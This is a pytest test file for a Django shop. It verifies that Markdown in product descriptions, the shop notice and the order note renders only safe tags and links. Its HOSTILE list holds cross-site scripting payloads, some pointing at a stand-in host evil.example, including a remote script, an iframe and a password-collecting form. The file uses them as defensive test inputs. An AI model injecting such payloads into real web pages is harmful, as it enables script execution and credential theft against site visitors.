"""Operator Markdown (shop.richtext) on the product page, the notice and the order note: formatting
comes through, nothing executable does."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.urls import reverse

from shop.models import ShopSettings
from tests.support.factories import ProductFactory, stock_product

pytestmark = pytest.mark.django_db

HOSTILE = [
    "<script>alert('s')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[click](javascript:alert('j'))",
    "[click](JaVaScRiPt:alert('J'))",
    "[click](&#106;avascript:alert('e'))",
    "[click](vbscript:msgbox('v'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](data:image/svg+xml,<svg onload=alert('d')>)",
    "![img](x \"title\" onerror=alert('i'))",
    "<img src=x onerror=alert('o')>",
    '<a href="#" onclick="alert(\'c\')">a</a>',
    '<p style="background:url(javascript:alert(\'st\'))" id="order" class="x">styled</p>',
    "<svg><script>alert('svg')</script></svg>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example/"><input name="query_password"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<style>body{display:none}</style>",
    "<details open ontoggle=alert('t')>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('m')>",
    "<!--<script>alert('comment')</script>-->",
    "`<script>alert('code')</script>`",
]
SAFE_TAGS = {"p", "br", "strong", "em", "a", "code", "pre", "h2", "ul", "li", "div"}


class Elements(HTMLParser):
    """Every element and attribute the browser would build from the HTML (text is only text)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attrs in Elements(html).found:
        assert tag in SAFE_TAGS, html
        assert set(attrs) <= {"href", "rel", "title", "class"}, html
        assert attrs.get("class") in (None, "description rich"), html
        assert urlsplit(attrs.get("href", "")).scheme in ("", "http", "https", "mailto"), html


def product_html(client, description: str) -> str:
    product = ProductFactory(description=description)
    stock_product(product, 1)
    page = client.get(reverse("shop:product", args=[product.slug])).content.decode()
    return page.split('<section class="product-description">', 1)[1].split("</section>", 1)[0]


@pytest.mark.parametrize("attack", HOSTILE)
def test_hostile_description_renders_nothing_executable(client, attack):
    html = product_html(client, f"正文 {attack} 结尾")

    assert_harmless(html)
    assert "正文" in html


def test_markdown_formatting_survives_the_sanitiser(client):
    html = product_html(
        client, "## 使用说明\n**先登录**，再兑换\n第二行\n\n- 一\n- 二\n\n[官网](https://example.com/redeem) `CODE-1`"
    )

    assert "<h2>使用说明</h2>" in html and "<strong>先登录</strong>" in html and "<br>" in html
    assert "<li>一</li>" in html and "<code>CODE-1</code>" in html
    assert '<a href="https://example.com/redeem" rel="nofollow noopener noreferrer">官网</a>' in html


def test_notice_and_order_note_are_sanitised_too(client):
    from tests.support.storefront import checkout

    ShopSettings.objects.create(
        notice="**公告** <script>alert(1)</script>", order_note="[x](javascript:alert(2)) 请妥善保管"
    )
    product = ProductFactory()
    stock_product(product, 1)
    order = checkout(client, product)

    page = client.get("/").content.decode()
    assert "<strong>公告</strong>" in page and "alert(1)" not in page
    # the note shows with the keys only; here the order is pending
    assert "请妥善保管" not in client.get(reverse("shop:order", args=[order.access_token])).content.decode()
